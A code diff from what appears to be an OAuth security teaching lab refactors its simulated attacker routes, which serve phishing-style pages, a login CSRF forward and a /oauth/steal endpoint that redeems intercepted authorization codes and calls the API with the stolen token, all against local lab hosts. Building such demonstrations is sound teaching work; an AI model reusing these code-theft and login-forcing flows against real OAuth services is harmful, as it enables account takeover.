@@ -1,17 +1,14 @@
+import type { FastifyPluginAsyncTypebox } from '@fastify/type-provider-typebox';
 import type { FastifyInstance } from 'fastify';
 import { randomToken } from '../../crypto/random';
-import { escapeHtml } from '../../core/html-page';
+import { html } from '../../core/html';
+import { attackerLayout } from '../../core/html-layouts';
+import { params } from './schemas';
 import { API_SCOPE } from './settings';
 import type { OAuthServices } from './services';
 import { s256 } from './pkce';
 import { demoAccount, signInAndConsent } from './runs';
 import { ScriptedBrowser } from './scripted-browser';
-
-const STYLE =
-  'body{font:16px system-ui,sans-serif;max-width:40rem;margin:3rem auto;padding:0 1rem;background:#2b0d0d;color:#ffe9e9}a,button{color:#ffd34d}code,pre{background:#0004;padding:0 .2em;word-break:break-all;white-space:pre-wrap}';
-
-const evilPage = (title: string, body: string, head = '') =>
-  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${escapeHtml(title)}</title>${head}<style>${STYLE}</style></head><body><h1>Evil Corp</h1>${body}</body></html>`;
 
 /** Verifiers the attacker made for links in flight, by state. Bounded: it is the attacker's scratch pad. */
 const MAX_PENDING = 50;
@@ -21,7 +18,14 @@ const MAX_PENDING = 50;
  * the victim's real browser does the cross-site part itself.
  */
 export function oauthAttackerRoutes(lab: OAuthServices) {
-  return async (app: FastifyInstance): Promise<void> => {
+  return async (root: FastifyInstance): Promise<void> => {
+    await root.register(attackerPages(lab));
+  };
+}
+
+const attackerPages =
+  (lab: OAuthServices): FastifyPluginAsyncTypebox =>
+  async (app) => {
     const { ctx } = lab;
     const verifiers = new Map<string, string>();
     /** The attacker's catch page: same host name as Your App (127.0.0.1), the attacker's own port. */
@@ -41,13 +45,13 @@ export function oauthAttackerRoutes(lab: OAuthServices) {
       );
       const callback = back.location ?? ctx.origins.client;
       return reply.type('text/html; charset=utf-8').send(
-        evilPage(
+        attackerLayout(
           'Free coffee voucher',
-          `<p>Redeeming your voucher at Your App…</p>
+          html`<p>Redeeming your voucher at Your App…</p>
 <p>Behind the scenes: the attacker signed in to Your App as <code>admin@authlab.test</code>, stopped before the
-callback, and now sends your browser there: <code id="callback">${escapeHtml(callback)}</code></p>
-<p><a id="go" href="${escapeHtml(callback)}">Continue</a></p>`,
-          `<meta http-equiv="refresh" content="1;url=${escapeHtml(callback)}">`,
+callback, and now sends your browser there: <code id="callback">${callback}</code></p>
+<p><a id="go" href="${callback}">Continue</a></p>`,
+          html`<meta http-equiv="refresh" content="1;url=${callback}">`,
         ),
       );
     });
@@ -70,19 +74,19 @@ callback, and now sends your browser there: <code id="callback">${escapeHtml(cal
         code_challenge_method: 'S256',
       }).toString();
       return reply.type('text/html; charset=utf-8').send(
-        evilPage(
+        attackerLayout(
           'Your notes are waiting',
-          `<p>Sign in with Lab ID to see the notes a friend shared with you.</p>
-<p><a id="lab-id-link" href="${escapeHtml(url.toString())}">Sign in with Lab ID</a></p>
+          html`<p>Sign in with Lab ID to see the notes a friend shared with you.</p>
+<p><a id="lab-id-link" href="${url.toString()}">Sign in with Lab ID</a></p>
 <p>Behind the scenes: the link is a real Lab ID request for the "Lab Notes" app, but its
-<code>redirect_uri</code> is <code>${escapeHtml(stealUrl())}</code>, the attacker's page, and the PKCE
+<code>redirect_uri</code> is <code>${stealUrl()}</code>, the attacker's page, and the PKCE
 challenge is the attacker's own.</p>`,
         ),
       );
     });
 
-    app.get('/oauth/steal', async (request, reply) => {
-      const q = request.query as Record<string, unknown>;
+    app.get('/oauth/steal', { schema: { querystring: params('code', 'state') } }, async (request, reply) => {
+      const q = request.query;
       const code = typeof q.code === 'string' ? q.code : '';
       const verifier = typeof q.state === 'string' ? verifiers.get(q.state) : undefined;
       if (typeof q.state === 'string') verifiers.delete(q.state);
@@ -105,14 +109,9 @@ challenge is the attacker's own.</p>`,
         });
         loot = `Token endpoint: ${token.status}. Lab API with the stolen token: ${api.status} ${JSON.stringify(await api.json().catch(() => null))}`;
       }
+      const stolen = code ? 'Evil Corp got your code and redeemed it.' : 'No code arrived.';
       return reply
         .type('text/html; charset=utf-8')
-        .send(
-          evilPage(
-            'Thanks!',
-            `<p id="stolen">${code ? 'Evil Corp got your code and redeemed it.' : 'No code arrived.'}</p><pre id="loot">${escapeHtml(loot)}</pre>`,
-          ),
-        );
+        .send(attackerLayout('Thanks!', html`<p id="stolen">${stolen}</p><pre id="loot">${loot}</pre>`));
     });
   };
-}
